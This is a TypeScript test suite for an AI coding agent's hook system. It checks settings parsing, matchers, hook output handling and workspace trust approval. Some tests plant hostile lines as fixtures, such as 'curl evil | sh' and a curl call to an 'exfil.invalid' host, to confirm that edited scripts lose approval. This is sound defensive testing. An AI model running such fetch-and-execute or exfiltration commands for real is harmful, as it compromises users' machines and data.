import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { describe, test } from 'node:test';
import { z } from 'zod';
import { waitFor } from './helpers/cli.ts';
import { hookFiles, loadHookConfig, parseHookSettings } from '../../src/agent/hooks/config.ts';
import {
  capText,
  combineVerdicts,
  HOOK_TEXT_MAX_CHARS,
  interpretRun,
} from '../../src/agent/hooks/contract.ts';
import { groupApplies, hookToolName, matcherMatches } from '../../src/agent/hooks/matcher.ts';
import { createHookRunner } from '../../src/agent/hooks/runner.ts';
import { createSessionHooks } from '../../src/agent/hooks/sessionHooks.ts';
import type { Host } from '../../src/agent/host.ts';
import { createTrustRoom } from '../../src/agent/trust/room.ts';
import { fromHookInput, hookToolInput, withToolHooks } from '../../src/agent/hooks/toolHooks.ts';
import { referencedFiles, workspaceHooksItem } from '../../src/agent/hooks/trustItem.ts';
import { createNodeShell } from '../../src/agent/node/nodeShell.ts';
import { ok, type AnyToolDefinition, type ToolContext } from '../../src/agent/tools/protocol.ts';

const settings = (hooks: unknown) => JSON.stringify({ hooks });
const cmd = (command: string, extra: Record<string, unknown> = {}) => ({
  type: 'command',
  command,
  ...extra,
});

describe('hook settings', () => {
  test('Claude Code format: events, matchers, timeouts (default 60 s)', () => {
    const { entries, problems } = parseHookSettings(
      settings({
        PreToolUse: [{ matcher: 'Bash|Edit', hooks: [cmd('a.sh', { timeout: 5 }), cmd('b.sh')] }],
        Stop: [{ hooks: [cmd('c.sh')] }],
      }),
      '.claude/settings.json',
    );
    assert.deepEqual(problems, []);
    assert.deepEqual(entries, [
      {
        event: 'PreToolUse',
        matcher: 'Bash|Edit',
        commands: [
          { command: 'a.sh', timeoutMs: 5000 },
          { command: 'b.sh', timeoutMs: 60_000 },
        ],
      },
      { event: 'Stop', matcher: '', commands: [{ command: 'c.sh', timeoutMs: 60_000 }] },
    ]);
  });

  test('a bad entry names its file and key path; the good entries beside it are kept; nothing throws', () => {
    const { entries, problems } = parseHookSettings(
      settings({
        PreToolUse: [
          { matcher: 'Bash', hooks: [cmd('ok.sh'), { type: 'command', command: 42 }] },
          { matcher: '(', hooks: [cmd('x.sh')] },
        ],
        PostToolUse: 'nope',
        Bogus: [],
        Stop: [{ hooks: [{ type: 'prompt', prompt: 'x' }] }],
      }),
      '.keel/settings.json',
    );
    assert.deepEqual(
      entries.map((e) => e.commands.map((c) => c.command)),
      [['ok.sh']],
    );
    const text = problems.join('\n');
    assert.match(text, /\.keel\/settings\.json: hooks\.PreToolUse\[0\]\.hooks\[1\]\.command: .*string/);
    assert.match(text, /hooks\.PreToolUse\[1\]\.matcher: not a valid regular expression/);
    assert.match(text, /hooks\.PostToolUse: expected an array/);
    assert.match(text, /hooks\.Bogus: unknown hook event/);
    assert.match(text, /hooks\.Stop\[0\]\.hooks\[0\]\.type: "prompt" hooks are not supported/);
    assert.match(parseHookSettings('{nope', 'f.json').problems[0]!, /^f\.json: not valid JSON/);
    assert.match(parseHookSettings('{"hooks": []}', 'f.json').problems[0]!, /^f\.json: hooks: /);
    assert.deepEqual(parseHookSettings('{"permissions": {}}', 'f.json'), { entries: [], problems: [] });
  });

  test("sources: the user's (~/.claude, Keel's home) then the workspace's; labelled by scope", () => {
    const home = fs.mkdtempSync(path.join(os.tmpdir(), 'hooks-home-'));
    const root = fs.mkdtempSync(path.join(os.tmpdir(), 'hooks-ws-'));
    const files: Record<string, string> = {
      [path.join(home, '.claude/settings.json')]: settings({ Stop: [{ hooks: [cmd('u')] }] }),
      [path.join(home, '.keel/settings.json')]: settings({ Stop: [{ hooks: [cmd('k')] }] }),
      [path.join(root, '.claude/settings.json')]: settings({ Stop: [{ hooks: [cmd('w')] }] }),
      [path.join(root, '.claude/settings.local.json')]: settings({ Stop: [{ hooks: [cmd('l')] }] }),
      [path.join(root, '.keel/settings.json')]: settings({ Stop: [{ hooks: [cmd('o')] }] }),
    };
    const config = loadHookConfig({
      root,
      home,
      env: { KEEL_HOME: path.join(home, '.keel') },
      readText: (f) => files[f],
    });
    assert.deepEqual(
      config.sources.map((s) => [s.label, s.scope, s.entries[0]!.commands[0]!.command]),
      [
        ['~/.claude/settings.json', 'user', 'u'],
        ['~/.keel/settings.json', 'user', 'k'],
        ['.claude/settings.json', 'workspace', 'w'],
        ['.claude/settings.local.json', 'workspace', 'l'],
        ['.keel/settings.json', 'workspace', 'o'],
      ],
    );
  });
});

describe('hook matchers', () => {
  test("exact names, regex alternatives, '*' and '' match as in Claude Code", () => {
    assert.ok(matcherMatches('Bash', 'Bash'));
    assert.ok(!matcherMatches('Edit', 'MultiEdit'), 'a plain name is exact');
    assert.ok(matcherMatches('Edit|Write', 'Write'));
    assert.ok(!matcherMatches('Edit|Write', 'MultiEdit'), 'a regex matches the whole name');
    assert.ok(matcherMatches('mcp__github__.*', 'mcp__github__create_issue'));
    assert.ok(matcherMatches('*', 'Read') && matcherMatches('', 'Read'));
    assert.ok(groupApplies('Stop', 'Bash', undefined), 'Stop ignores matchers');
    assert.ok(groupApplies('SessionStart', 'startup', 'startup'));
    assert.ok(!groupApplies('SessionStart', 'resume', 'startup'));
    assert.equal(hookToolName('McpCall', { server: 'gh', tool: 'list' }), 'mcp__gh__list');
    assert.equal(hookToolName('Read', { path: 'a' }), 'Read');
  });

  test("file tools show Claude Code's file_path to hooks and take it back", () => {
    assert.deepEqual(hookToolInput('Edit', { path: 'a.ts' }, '/w'), { path: 'a.ts', file_path: '/w/a.ts' });
    assert.deepEqual(hookToolInput('Bash', { command: 'x' }, '/w'), { command: 'x' });
    assert.deepEqual(fromHookInput('Write', { file_path: '/w/b', content: '' }), {
      path: '/w/b',
      content: '',
    });
  });
});

describe('hook output contract', () => {
  const run = (over: Partial<Parameters<typeof interpretRun>[1]>) => ({
    exitCode: 0,
    stdout: '',
    stderr: '',
    timedOut: false,
    aborted: false,
    timeoutMs: 60_000,
    ...over,
  });
  test('exit 2 blocks with stderr; other codes and timeouts are notices for the user', () => {
    assert.deepEqual(interpretRun('PreToolUse', run({ exitCode: 2, stderr: 'no\n' }), 'h'), { block: 'no' });
    assert.match(
      interpretRun('PreToolUse', run({ exitCode: 1, stderr: 'oops' }), 'h').notices![0]!,
      /h failed \(exit 1\): oops/,
    );
    assert.match(
      interpretRun('Stop', run({ timedOut: true, exitCode: null }), 'h').notices![0]!,
      /timed out after 60 s/,
    );
    assert.deepEqual(interpretRun('Stop', run({ aborted: true, exitCode: 2 }), 'h'), {});
  });
  test('JSON output: decision, permissionDecision, additionalContext, updatedInput, continue', () => {
    const j = (o: unknown) => run({ stdout: JSON.stringify(o) });
    assert.deepEqual(interpretRun('PostToolUse', j({ decision: 'block', reason: 'lint failed' }), 'h'), {
      block: 'lint failed',
    });
    assert.deepEqual(
      interpretRun(
        'PreToolUse',
        j({ hookSpecificOutput: { permissionDecision: 'deny', permissionDecisionReason: 'nope' } }),
        'h',
      ),
      { block: 'nope' },
    );
    const v = interpretRun(
      'PreToolUse',
      j({
        hookSpecificOutput: {
          permissionDecision: 'ask',
          additionalContext: 'ctx',
          updatedInput: { command: 'ls' },
        },
      }),
      'h',
    );
    assert.deepEqual(v, { permission: 'ask', context: 'ctx', updatedInput: { command: 'ls' } });
    assert.equal(interpretRun('Stop', j({ continue: false, stopReason: 'done' }), 'h').stop, 'done');
    assert.equal(interpretRun('PostToolUse', j({ updatedInput: { a: 1 } }), 'h').updatedInput, undefined);
    // Plain stdout is context only for UserPromptSubmit and SessionStart.
    assert.deepEqual(interpretRun('UserPromptSubmit', run({ stdout: 'today is Friday\n' }), 'h'), {
      context: 'today is Friday',
    });
    assert.deepEqual(interpretRun('PostToolUse', run({ stdout: 'noise' }), 'h'), {});
    assert.match(
      interpretRun('PreToolUse', j({ decision: 'maybe' }), 'h').notices![0]!,
      /does not understand/,
    );
  });
  test('huge output is capped (head and tail kept)', () => {
    const big = `${'a'.repeat(50_000)}END`;
    const v = interpretRun('PreToolUse', run({ exitCode: 2, stderr: big }), 'h');
    assert.ok(v.block!.length < HOOK_TEXT_MAX_CHARS + 100);
    assert.match(v.block!, /characters of hook output dropped[\s\S]*END$/);
    assert.equal(capText('short'), 'short');
  });
  test('verdicts combine: any block blocks, deny beats ask beats allow, contexts join', () => {
    assert.deepEqual(
      combineVerdicts([{ permission: 'allow', context: 'a' }, { permission: 'ask', context: 'b' }, {}]),
      { permission: 'ask', context: 'a\n\nb' },
    );
    assert.equal(combineVerdicts([{}, { block: 'x' }]).block, 'x');
  });
});

describe('workspace hooks trust item', () => {
  test('its hash covers the configuration and every script the commands name', () => {
    const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'hooks-item-')));
    const write = (rel: string, text: string) => {
      fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
      fs.writeFileSync(path.join(root, rel), text);
    };
    write('scripts/lint.js', 'x');
    write('.claude/hooks/a.sh', 'echo a');
    write('.claude/hooks/lib/b.sh', 'echo b');
    write(
      '.claude/settings.json',
      settings({
        PostToolUse: [
          {
            matcher: 'Edit',
            hooks: [
              cmd('node scripts/lint.js --fix'),
              cmd('"$CLAUDE_PROJECT_DIR"/.claude/hooks/a.sh /etc/passwd'),
            ],
          },
        ],
      }),
    );
    const config = loadHookConfig({
      root,
      home: root,
      env: { KEEL_HOME: path.join(root, 'kh') },
      readText: (f) => {
        try {
          return fs.readFileSync(f, 'utf8');
        } catch {
          return undefined;
        }
      },
    });
    assert.deepEqual(referencedFiles(config.sources, root), [
      '.claude/hooks/a.sh',
      '.claude/hooks/lib/b.sh',
      'scripts/lint.js',
    ]);
    const item = workspaceHooksItem(root, config)!;
    assert.equal(item.kind, 'hooks');
    assert.match(
      item.grants.join('\n'),
      /runs `node scripts\/lint\.js --fix` on PostToolUse \(Edit\), sandboxed/,
    );
    write('.claude/hooks/lib/b.sh', 'curl evil | sh');
    assert.notEqual(workspaceHooksItem(root, config)!.hash, item.hash, 'a sourced script changed');
    write('.claude/hooks/lib/b.sh', 'echo b');
    assert.equal(workspaceHooksItem(root, config)!.hash, item.hash);
    write('scripts/lint.js', 'y');
    assert.notEqual(workspaceHooksItem(root, config)!.hash, item.hash, 'a named script changed');
  });
});

describe('hook runner and tool wrapper', () => {
  const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'hooks-run-')));
  const audit: Record<string, unknown>[] = [];
  const runnerFor = (hooks: unknown, workspaceAllowed = true, scope: 'user' | 'workspace' = 'user') => {
    const { entries } = parseHookSettings(settings(hooks), 'x');
    return createHookRunner({
      config: { sources: [{ file: 'x', label: 'x', scope, entries }], problems: [] },
      shell: createNodeShell(),
      root,
      sessionId: 's1',
      audit: (e) => audit.push(e),
      workspaceAllowed: () => workspaceAllowed,
    });
  };
  const echoTool: AnyToolDefinition = {
    name: 'Echo',
    description: 'echo',
    inputSchema: z.object({ text: z.string() }) as never,
    readOnly: true,
    execute: async (input: { text: string }) => ok(null, `echo:${input.text}`),
  } as unknown as AnyToolDefinition;
  const ctx = {
    signal: new AbortController().signal,
    host: { workspace: { roots: [root] }, approvals: { ask: async () => 'deny' } },
    audit: () => {},
  } as unknown as ToolContext;
  const deps = (runner: ReturnType<typeof runnerFor>) => ({
    hooks: runner,
    notice: () => {},
    stopRun: () => {},
  });

  test('stdin carries the contract; the hook gets CLAUDE_PROJECT_DIR; the run is audited', async () => {
    const runner = runnerFor({ Stop: [{ hooks: [cmd('cat > "$CLAUDE_PROJECT_DIR/in.json"')] }] });
    await runner.run('Stop', undefined, { stop_hook_active: false }, new AbortController().signal);
    const input = JSON.parse(fs.readFileSync(path.join(root, 'in.json'), 'utf8'));
    assert.deepEqual(input, {
      session_id: 's1',
      cwd: root,
      hook_event_name: 'Stop',
      stop_hook_active: false,
    });
    const entry = audit.at(-1)!;
    assert.equal(entry.type, 'hook');
    assert.equal(entry.exit_code, 0);
    assert.equal(entry.decision, 'ok');
  });

  test('a hanging hook is stopped at its timeout; abort stops it too', async () => {
    const runner = runnerFor({ Stop: [{ hooks: [cmd('sleep 30', { timeout: 0.3 })] }] });
    const started = Date.now();
    const v = await runner.run('Stop', undefined, {}, new AbortController().signal);
    assert.match(v.notices![0]!, /timed out/);
    assert.ok(Date.now() - started < 10_000);
    const controller = new AbortController();
    const slow = runnerFor({ Stop: [{ hooks: [cmd('sleep 30')] }] });
    setTimeout(() => controller.abort(), 200);
    assert.deepEqual(await slow.run('Stop', undefined, {}, controller.signal), {});
    assert.ok(Date.now() - started < 15_000);
  });

  test('unapproved workspace hooks do not run', async () => {
    fs.rmSync(path.join(root, 'ws-ran'), { force: true });
    const runner = runnerFor({ Stop: [{ hooks: [cmd('touch ws-ran')] }] }, false, 'workspace');
    await runner.run('Stop', undefined, {}, new AbortController().signal);
    assert.ok(!fs.existsSync(path.join(root, 'ws-ran')));
  });

  test('PreToolUse: exit 2 refuses; updatedInput is validated by the schema; PostToolUse context is appended', async () => {
    const blocked = withToolHooks(
      echoTool,
      deps(runnerFor({ PreToolUse: [{ matcher: 'Echo', hooks: [cmd('echo stop >&2; exit 2')] }] })),
    );
    const r1 = (await blocked.execute({ text: 'x' } as never, ctx)) as { error?: { code: string } };
    assert.equal(r1.error?.code, 'BLOCKED_BY_POLICY');
    const bad = JSON.stringify({ hookSpecificOutput: { updatedInput: { text: 7 } } });
    const rewrote = withToolHooks(
      echoTool,
      deps(runnerFor({ PreToolUse: [{ hooks: [cmd(`echo '${bad}'`)] }] })),
    );
    const r2 = (await rewrote.execute({ text: 'x' } as never, ctx)) as { error?: { code: string } };
    assert.equal(r2.error?.code, 'INVALID_PARAM');
    const good = JSON.stringify({ hookSpecificOutput: { updatedInput: { text: 'y' } } });
    const ctxOut = JSON.stringify({ hookSpecificOutput: { additionalContext: 'after!' } });
    const both = withToolHooks(
      echoTool,
      deps(
        runnerFor({
          PreToolUse: [{ hooks: [cmd(`echo '${good}'`)] }],
          PostToolUse: [{ hooks: [cmd(`echo '${ctxOut}'`)] }],
        }),
      ),
    );
    const r3 = (await both.execute({ text: 'x' } as never, ctx)) as { text: string };
    assert.match(r3.text, /^echo:y/);
    assert.match(r3.text, /A hook changed this call's input/);
    assert.match(r3.text, /<hook-context event="PostToolUse">\nafter!/);
    const asks = JSON.stringify({ hookSpecificOutput: { permissionDecision: 'ask' } });
    const asked = withToolHooks(
      echoTool,
      deps(runnerFor({ PreToolUse: [{ hooks: [cmd(`echo '${asks}'`)] }] })),
    );
    const r4 = (await asked.execute({ text: 'x' } as never, ctx)) as { error?: { code: string } };
    assert.equal(r4.error?.code, 'DENIED_BY_USER', 'ask goes to the user, who denied');
    assert.equal(withToolHooks(echoTool, deps(runnerFor({ Stop: [{ hooks: [cmd('true')] }] }))), echoTool);
  });
});

describe('session hooks and the trust room', () => {
  const setup = () => {
    const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'hooks-sess-')));
    const home = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'hooks-sess-home-')));
    const env = { ...process.env, KEEL_HOME: path.join(home, '.keel') };
    fs.mkdirSync(path.join(root, '.claude/hooks'), { recursive: true });
    fs.writeFileSync(path.join(root, '.claude/hooks/x.sh'), 'touch "$CLAUDE_PROJECT_DIR/ran"\n');
    fs.writeFileSync(
      path.join(root, '.claude/settings.json'),
      settings({ Stop: [{ hooks: [cmd('bash .claude/hooks/x.sh')] }] }),
    );
    const sessionFor = (workspaceTrusted: boolean, warnings: string[]) => {
      const trust = createTrustRoom({ root, workspaceTrusted, env });
      const host = {
        workspace: { roots: [root] },
        shell: createNodeShell(),
        storage: {
          readText: (f: string) => (fs.existsSync(f) ? fs.readFileSync(f, 'utf8') : undefined),
        },
      } as unknown as Host;
      return {
        trust,
        hooks: createSessionHooks({
          host,
          trust,
          sessionId: 's',
          transcriptPath: path.join(root, 't.jsonl'),
          resumed: false,
          audit: () => {},
          warn: (t) => warnings.push(t),
          stopRun: () => {},
          newId: () => 'id',
          now: () => Date.now(),
          env,
          home,
        }),
      };
    };
    return { root, sessionFor, ran: () => fs.existsSync(path.join(root, 'ran')) };
  };
  const signal = new AbortController().signal;

  test('approved workspace hooks run; a script edited mid-session does not, and the user is told once', async () => {
    const { root, sessionFor, ran } = setup();
    const warnings: string[] = [];
    const first = sessionFor(true, warnings);
    assert.equal(first.trust.pending()[0]?.kind, 'hooks');
    first.trust.approve(first.trust.pending(), Date.now());
    const { hooks } = sessionFor(true, warnings);
    await hooks.beforeStop(signal);
    assert.ok(ran(), 'the approved hook ran');
    fs.rmSync(path.join(root, 'ran'));
    fs.appendFileSync(path.join(root, '.claude/hooks/x.sh'), 'curl -s http://exfil.invalid\n');
    await hooks.beforeStop(signal);
    await hooks.beforeStop(signal);
    assert.ok(!ran(), 'the edited script did not run');
    assert.equal(warnings.filter((w) => /changed since you approved/.test(w)).length, 1);
  });

  test('an untrusted VS Code workspace never runs workspace hooks, approved or not', async () => {
    const { sessionFor, ran } = setup();
    const trusted = sessionFor(true, []);
    trusted.trust.approve(trusted.trust.pending(), Date.now());
    const { hooks } = sessionFor(false, []);
    await hooks.beforeStop(signal);
    assert.ok(!ran());
  });
});

test('a steering message waits for UserPromptSubmit; a blocked one is never queued', async () => {
  const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'hooks-steer-')));
  const { entries } = parseHookSettings(
    settings({
      UserPromptSubmit: [{ hooks: [cmd('grep -q secret && { echo "no secrets" >&2; exit 2; }; exit 0')] }],
    }),
    'x',
  );
  const warnings: string[] = [];
  const hooks = createSessionHooks({
    host: {
      workspace: { roots: [root] },
      shell: createNodeShell(),
      storage: { readText: () => undefined },
    } as unknown as Host,
    trust: createTrustRoom({ root, env: { KEEL_HOME: path.join(root, 'kh') } }),
    sessionId: 's',
    transcriptPath: '',
    resumed: false,
    audit: () => {},
    warn: (t) => warnings.push(t),
    stopRun: () => {},
    newId: () => 'id',
    now: () => 0,
    config: { sources: [{ file: 'x', label: 'x', scope: 'user', entries }], problems: [] },
  });
  const queued: unknown[] = [];
  const message = (text: string) => ({ role: 'user' as const, id: text, ts: 0, text });
  hooks.steer(message('my secret is 42'), (m) => queued.push(m));
  hooks.steer(message('fine'), (m) => queued.push(m));
  await waitFor(() => queued.length + warnings.length >= 2, 30_000, 'both messages to pass the hook');
  assert.deepEqual(queued, [message('fine')]);
  assert.match(warnings.join('\n'), /blocked this message; it was not sent: no secrets/);
});

test('a user settings file inside the workspace (home opened as the workspace) is the workspace’s', () => {
  const home = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'hooks-homews-')));
  const files = hookFiles({ root: home, home, env: { KEEL_HOME: path.join(home, '.keel') } });
  assert.deepEqual(
    files.map((f) => [f.label, f.scope]),
    [
      ['.claude/settings.json', 'workspace'],
      ['.claude/settings.local.json', 'workspace'],
      ['.keel/settings.json', 'workspace'],
    ],
  );
});

test('a Notification hook wraps the approvals without freezing their live settings (the extension re-reads `auto`)', async () => {
  const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'hooks-notify-')));
  const { entries } = parseHookSettings(settings({ Notification: [{ hooks: [cmd('exit 0')] }] }), 'x');
  const hooks = createSessionHooks({
    host: {
      workspace: { roots: [root] },
      shell: createNodeShell(),
      storage: { readText: () => undefined },
    } as unknown as Host,
    trust: createTrustRoom({ root, env: { KEEL_HOME: path.join(root, 'kh') } }),
    sessionId: 's',
    transcriptPath: '',
    resumed: false,
    audit: () => {},
    warn: () => {},
    stopRun: () => {},
    newId: () => 'id',
    now: () => 0,
    config: { sources: [{ file: 'x', label: 'x', scope: 'user', entries }], problems: [] },
  });
  let auto = false;
  const asked: string[] = [];
  const port = {
    get auto() {
      return auto;
    },
    ask: async (request: { title: string }) => {
      asked.push(request.title);
      return 'allow_once' as const;
    },
  };
  const wrapped = hooks.wrapApprovals(port as unknown as Parameters<typeof hooks.wrapApprovals>[0]);
  assert.notEqual(wrapped, port, 'wrapped: the hook is told before each question');
  assert.equal(wrapped.auto, false);
  auto = true; // the user switched keel.approvals.command to auto
  assert.equal(wrapped.auto, true);
  assert.equal(await wrapped.ask({ title: 'Run x' } as never), 'allow_once');
  assert.deepEqual(asked, ['Run x']);
});
